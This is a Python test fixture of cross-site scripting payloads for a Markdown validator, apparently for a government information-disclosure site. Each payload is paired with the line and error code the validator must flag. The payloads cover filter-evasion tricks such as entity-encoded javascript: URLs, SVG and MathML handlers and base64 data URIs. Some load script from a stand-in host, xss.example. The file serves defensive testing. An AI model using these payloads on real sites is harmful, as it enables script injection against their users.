"""Markup that tries to run script, for tests/test_markup.py and tests/browser/test_xss.py.

Every case of issue #18 ("Markup that runs script"), then a filter-evasion list written in the
style of OWASP's XSS Filter Evasion Cheat Sheet (tags and case, entities and controls in URLs,
SVG and MathML, frames, plugins, forms, <base>, <meta refresh>, srcset, xlink:href, style,
<template>, raw-text elements, nested and malformed tags), each as Markdown an author could
write. Each payload says on which of its lines `gongkai validate` must report it and with
which codes (at least these; a payload may also lose other things).
"""

from __future__ import annotations

from dataclasses import dataclass

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
ENTITIES_DEC = "".join(f"&#{ord(c)};" for c in "javascript:alert(1)")
ENTITIES_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)")
ENTITIES_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert(1)")


@dataclass(frozen=True)
class Payload:
    name: str
    markdown: str
    line: int  # of the payload's lines, where the report belongs
    codes: frozenset[str]


def p(name: str, markdown: str, codes: str, line: int = 1) -> Payload:
    return Payload(name, markdown, line, frozenset(codes.split()))


ISSUE = [
    p("tag split across lines", "<img src=x\nonerror=alert(1)>", "GK902", 2),
    p("unclosed quote", '<img alt="a>\n" src=x onerror=alert(1)>', "GK902", 2),
    p("comment closed by --!>", "<!-- --!> <img src=x onerror=alert(1)>", "GK902"),
    p("abrupt empty comment", "<!--> <img src=x onerror=alert(1)> -->", "GK902"),
    p("comment opened in code", "`<!--` <img src=x onerror=alert(1)> `-->`", "GK902"),
    p("escaped backtick", "\\`<img src=x onerror=alert(1)>\\`", "GK902"),
    p("unclosed code fence", "```\n<script>alert(1)</script>", "GK901", 2),
    p("attr_list onerror", '![图](a.png){: onerror="alert(1)" }', "GK902"),
    p("attr_list onclick", '一段文字\n{: onclick="alert(1)" }', "GK902", 2),
    p(
        "attr_list javascript href",
        '[链接](https://example.gov.cn/){: href="javascript:alert(1)" }',
        "GK903",
    ),
    p("heading id out of the toc", '## 标题 {#"><img src=x onerror=alert(1)>}', "GK902"),
    p("entity in scheme", "[点我](jav&#x61;script:alert(1))", "GK903"),
    p("named entity colon", "[点我](javascript&colon;alert(1))", "GK903"),
    p("newline entity in scheme", "[点我](java&#x0A;script:alert(1))", "GK903"),
    p("control character before scheme", "[点我](\x01javascript:alert(1))", "GK903"),
    p("reference url on next line", "[点我][r]\n\n[r]:\n    javascript:alert(1)", "GK903", 4),
]

EVASION = [
    # script in all its spellings
    p("script", "<script>alert(1)</script>", "GK901"),
    p("script src", "<SCRIPT SRC=https://xss.example/x.js></SCRIPT>", "GK901"),
    p("script mixed case", "<ScRiPt>alert(1)</sCrIpT>", "GK901"),
    p("script slash attribute", '<script/xss src="https://xss.example/a.js"></script>', "GK901"),
    p("script double open", "<<script>alert(1);//<</script>", "GK901"),
    p("script split by script", "<scr<script>ipt>alert(1)</script>", "GK901"),
    p("script in emphasis", "**<script>alert(1)</script>**", "GK901"),
    # event attributes
    p("img onerror", '<img src=x onerror="alert(1)">', "GK902"),
    p(
        "img onerror fromCharCode",
        "<img src=x onerror=alert(String.fromCharCode(88,83,83))>",
        "GK902",
    ),
    p("img onerror upper case", "<IMG SRC=x ONERROR=alert(1)>", "GK902"),
    p("img onerror mixed case", "<img src=x oNeRrOr=alert(1)>", "GK902"),
    p("img slash separator", "<img src=x /onerror=alert(1)>", "GK902"),
    p("img onerror entity", "<img src=x onerror=&#x61;lert(1)>", "GK902"),
    p("img onerror javascript:", '<img src=x onerror="javascript:alert(1)">', "GK902"),
    p("img name split from value", "<img src=x onerror\n=alert(1)>", "GK902"),
    p("img over three lines", "<img\nsrc=x\nonerror=alert(1)>", "GK902", 3),
    p("img quotes break", '<img """><script>alert(1)</script>">', "GK901"),
    p("img scheme and eval", "<img src=x:alert(1) onerror=eval(src)>", "GK902 GK903"),
    p(
        "a onmouseover",
        '<a href="https://example.gov.cn/" onmouseover="alert(1)">悬停</a>',
        "GK902",
    ),
    p("a onclick", '<a href="#" onclick="alert(1)">点我</a>', "GK902"),
    p(
        "a onclick second line",
        '<a href="https://example.gov.cn/"\nonclick="alert(1)">两行</a>',
        "GK902",
        2,
    ),
    p("div onmouseover", '<div onmouseover="alert(1)">悬停</div>', "GK902"),
    p("p onauxclick", '<p dir="rtl" onauxclick=alert(1)>文字</p>', "GK902"),
    p("abbr onclick", '<abbr title="缩写" onclick="alert(1)">缩写</abbr>', "GK902"),
    p("li onclick", "<ol><li onclick=alert(1)>项</li></ol>", "GK902"),
    p(
        "img inside link",
        '<a href="https://example.gov.cn/"><img src=x onerror=alert(1)></a>',
        "GK902",
    ),
    p("img in blockquote", "> <img src=x onerror=alert(1)>", "GK902"),
    p(
        "img in table cell",
        "| 项目 | 说明 |\n| --- | --- |\n| a | <img src=x onerror=alert(1)> |",
        "GK902",
        3,
    ),
    p("img in html block", "<div>\n<img src=x\nonerror=alert(1)>\n</div>", "GK902", 3),
    p("markdown attribute", '<div markdown="1"><img src=x onerror=alert(1)></div>', "GK902"),
    # URLs: schemes, entities, controls, case
    p("img javascript src", '<img src="javascript:alert(1)">', "GK903"),
    p("img javascript src case", "<img src=JaVaScRiPt:alert(1)>", "GK903"),
    p("img newline in scheme", '<img src="java\nscript:alert(1)">', "GK903"),
    p("img tab entity in scheme", '<img src="jav&#x09;ascript:alert(1)">', "GK903"),
    p("img carriage return entity", '<img src="jav&#x0D;ascript:alert(1)">', "GK903"),
    p("img spaces and control before", '<img src=" &#14;  javascript:alert(1)">', "GK903"),
    p("img decimal entities", f"<img src={ENTITIES_DEC}>", "GK903"),
    p("img padded entities", f"<img src={ENTITIES_PADDED}>", "GK903"),
    p("img hex entities", f"<img src={ENTITIES_HEX}>", "GK903"),
    p("img data svg", f'<img src="data:image/svg+xml;base64,{B64_SVG}">', "GK903"),
    p("a hex entity scheme", '<a href="&#x6a;avascript:alert(1)">点我</a>', "GK903"),
    p("a decimal entity scheme", '<a href="&#106;avascript:alert(1)">点我</a>', "GK903"),
    p("a padded entity scheme", '<a href="&#0000106avascript:alert(1)">点我</a>', "GK903"),
    p("a entity colon", '<a href="javascript&#58;alert(1)">点我</a>', "GK903"),
    p("a hex entity colon", '<a href="javascript&#x3A;alert(1)">点我</a>', "GK903"),
    p("a NewLine entity", '<a href="javas&NewLine;cript:alert(1)">点我</a>', "GK903"),
    p("a Tab entity", '<a href="javas&Tab;cript:alert(1)">点我</a>', "GK903"),
    p("a leading spaces", '<a href="  javascript:alert(1)">点我</a>', "GK903"),
    p("a single quotes", "<a href='javascript:alert(1)'>单引号</a>", "GK903"),
    p("a no quotes", "<a href=javascript:alert(1)>无引号</a>", "GK903"),
    p("a upper case", '<A HREF="JAVASCRIPT:alert(1)">大写</A>', "GK903"),
    p("a vbscript", '<a href="vbscript:msgbox(1)">点我</a>', "GK903"),
    p("a data html", f'<a href="data:text/html;base64,{B64_SCRIPT}">点我</a>', "GK903"),
    p("a data svg", f'<a href="data:image/svg+xml;base64,{B64_SVG}">图</a>', "GK903"),
    p("a file", '<a href="file:///etc/passwd">点我</a>', "GK903"),
    p("a in list", '- <a href="javascript:alert(1)">项</a>', "GK903"),
    p("md link data", f"[点我](data:text/html;base64,{B64_SCRIPT})", "GK903"),
    p("md image javascript", "![图](javascript:alert(1))", "GK903"),
    p("md link angle brackets", "[点我](<javascript:alert(1)>)", "GK903"),
    p("md link with title", '[点我](javascript:alert(1) "标题")', "GK903"),
    p("md link upper case", "[点我](JAVASCRIPT:alert(1))", "GK903"),
    p("md link entity colon", "[点我](javascript&#58;alert(1))", "GK903"),
    p("md link entity letter", "[点我](&#106;avascript:alert(1))", "GK903"),
    p("reference with title", '[点我][x]\n\n[x]: JaVaScRiPt:alert(1) "标题"', "GK903", 3),
    p("reference defined first", "[x]: javascript:alert(1)\n\n[点我][x]", "GK903"),
    p("scheme as a tag", "<javascript:alert(1)>", "GK901"),
    # SVG and MathML
    p("svg onload", "<svg onload=alert(1)>", "GK901"),
    p("svg slash onload", "<svg/onload=alert(1)>", "GK901"),
    p("svg script", "<svg><script>alert(1)</script></svg>", "GK901"),
    p(
        "svg xlink:href",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">点我</text></a></svg>',
        "GK901",
    ),
    p("svg animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "GK901"),
    p("svg set href", '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "GK901"),
    p(
        "svg foreignObject",
        "<div><svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg></div>",
        "GK901",
    ),
    p("svg in emphasis", "**<svg onload=alert(1)>**", "GK901"),
    p("math href", '<math href="javascript:alert(1)">点我</math>', "GK901"),
    p(
        "math xlink:href",
        '<math><mi xlink:href="javascript:alert(1)">点我</mi></math>',
        "GK901",
    ),
    p(
        "math mglyph style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "GK901",
    ),
    # frames, plugins, documents
    p("iframe javascript", '<iframe src="javascript:alert(1)"></iframe>', "GK901"),
    p("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "GK901"),
    p("object", '<object data="javascript:alert(1)"></object>', "GK901"),
    p("embed", f'<embed src="data:text/html;base64,{B64_SCRIPT}">', "GK901"),
    p("applet", '<applet code="javascript:alert(1)"></applet>', "GK901"),
    p("base", '<base href="javascript:alert(1)//">', "GK901"),
    p("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "GK901"),
    p("link stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">', "GK901"),
    p("bgsound", '<bgsound src="javascript:alert(1)">', "GK901"),
    # forms
    p("form action", '<form action="javascript:alert(1)"><button>提交</button></form>', "GK901"),
    p(
        "button formaction",
        '<form><button formaction="javascript:alert(1)">提交</button></form>',
        "GK901",
    ),
    p("input image", '<input type="image" src="x" onerror="alert(1)">', "GK901"),
    p("keygen autofocus", "<keygen autofocus onfocus=alert(1)>", "GK901"),
    p("isindex", "<isindex type=image src=1 onerror=alert(1)>", "GK901"),
    p("select option", "<select><option><img src=x onerror=alert(1)></option></select>", "GK901"),
    # media and interactive elements
    p("video poster", "<video poster=javascript:alert(1)></video>", "GK901"),
    p("video source onerror", '<video><source onerror="alert(1)"></video>', "GK901"),
    p("audio onerror", "<audio src=x onerror=alert(1)>", "GK901"),
    p("details ontoggle", "<details open ontoggle=alert(1)>", "GK901"),
    p("marquee onstart", "<marquee onstart=alert(1)>", "GK901"),
    p(
        "image map area",
        '<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,9,9"></map>',
        "GK901",
    ),
    # srcset, style, other attributes
    p("img srcset", '<img srcset="javascript:alert(1) 1x" src="a.png">', "GK902"),
    p("img usemap", '<img src="a.png" usemap="#m">', "GK902"),
    p("style url", '<span style="background:url(javascript:alert(1))">文字</span>', "GK902"),
    p("style expression", '<div style="width: expression(alert(1))">文字</div>', "GK902"),
    p(
        "style overlay",
        '<a href="https://example.gov.cn/" style="position:fixed;top:0;left:0;width:100%;height:100%">覆盖</a>',
        "GK902",
    ),
    p(
        "table background",
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
        "GK902",
    ),
    p("a ping", '<a href="https://example.gov.cn/" ping="https://xss.example/">点我</a>', "GK902"),
    p("a target", '<a href="https://example.gov.cn/" target="_blank">新窗口</a>', "GK902"),
    p("style element", '<style>@import "https://xss.example/a.css";</style>', "GK901"),
    p(
        "clobbering material config",
        '<p id="__config">{"base": "javascript:alert(1)"}</p>',
        "GK902",
    ),
    # attr_list
    p(
        "attr_list onclick on link",
        '[点我](https://example.gov.cn/){: onclick="alert(1)" }',
        "GK902",
    ),
    p("attr_list onclick on heading", '## 标题 {: onclick="alert(1)" }', "GK902"),
    p("attr_list style", '一段文字\n{: style="position:fixed;top:0" }', "GK902", 2),
    p("attr_list data attribute", '## 标题 {: data-x="1" }', "GK902"),
    p("attr_list reserved id", "## 目录 {: #__drawer }", "GK902"),
    p("attr_list class breaks out", '## 标题 {: .x"onmouseover=alert(1) }', "GK902"),
    # the theme's class names (a fixed banner over the page, hidden text) and outside images
    p("theme class overlay", '<div class="md-consent__overlay"></div>', "GK902"),
    p("theme class hides text", '<span class="x md-skip">隐藏的文字</span>', "GK902"),
    p("attr_list theme class", "一段文字\n{: .gk-print-only }", "GK902", 2),
    p("theme script class", '<div class="tabbed-set">文字</div>', "GK902"),
    p(
        "image from another site",
        '![](https://tracker.example/pixel.gif?u=1){: width="0" height="0" }',
        "GK903",
    ),
    p("image from // address", '<img src="//tracker.example/p.gif" alt="">', "GK903"),
    p("image from \\\\ address", '<img src="\\\\tracker.example\\p.gif" alt="">', "GK903"),
    p("image from /\\ address", '<img src="/\\tracker.example/p.gif" alt="">', "GK903"),
    p("image address split by tab", '<img src="/&#9;/tracker.example/p.gif" alt="">', "GK903"),
    p("image address after a control", '<img src="&#1;//tracker.example/t.png" alt="">', "GK903"),
    p("Markdown image after a control", "![图](&#11;https://tracker.example/u.png)", "GK903"),
    # raw-text and template elements, nesting
    p("template", "<template><img src=x onerror=alert(1)></template>", "GK901"),
    p(
        "noscript breakout",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "GK901",
    ),
    p("xmp", "<xmp><img src=x onerror=alert(1)></xmp>", "GK901"),
    p("textarea", "<textarea><img src=x onerror=alert(1)></textarea>", "GK901"),
    p("title element", "<title><img src=x onerror=alert(1)></title>", "GK901"),
    p(
        "details summary",
        "<details><summary>展开</summary><img src=x onerror=alert(1)></details>",
        "GK901",
    ),
]

PAYLOADS = ISSUE + EVASION

# Published as they are and never reported: what staff legitimately write.
SAFE = """\
## 一、总体要求 {#zongti}

按照《条例》要求，做好**主动公开**工作，详见[政策原文](https://www.example.gov.cn/a.html)、
[附件](attachments/a.pdf)、[上一条](../2026-00001/)、[第二节](#zongti)和 <https://www.example.gov.cn/>,
咨询电话 [0000-1234567](tel:0000-1234567)，邮箱 [xxgk@example.gov.cn](mailto:xxgk@example.gov.cn)。

| 项目 | 金额（万元） | 说明 |
| :-- | --: | :-: |
| 预算 | 100 | 年初 |

![示意图](attachments/tujie.png){: width="300" }

代码中的 `<script>alert(1)</script>` 只是文字：

```html
<script>alert(1)</script>
<img src=x onerror=alert(1)>
```

<span class="note" title="说明">注</span> <abbr title="政府信息公开">政务公开</abbr>

<!-- 内部备注:<script>alert(1)</script> 不会出现在页面上 -->
"""
